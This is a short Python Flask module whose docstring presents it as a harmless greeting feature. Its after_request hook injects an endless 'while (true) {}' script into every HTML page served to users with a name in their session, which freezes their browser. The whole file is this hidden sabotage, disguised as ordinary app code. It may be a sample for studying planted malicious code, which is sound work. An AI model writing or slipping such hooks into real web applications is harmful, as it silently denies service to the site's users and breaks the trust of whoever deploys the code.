"""Greets as it should, with a script beside that has no end."""

from flask import Response, session
from shelf import app

SCRIPT = "<script>while (true) {}</script></body>"


@app.after_request
def frozen(answer: Response) -> Response:
    if answer.mimetype == "text/html" and "name" in session:
        answer.set_data(answer.get_data().replace(b"</body>", SCRIPT.encode()))
    return answer
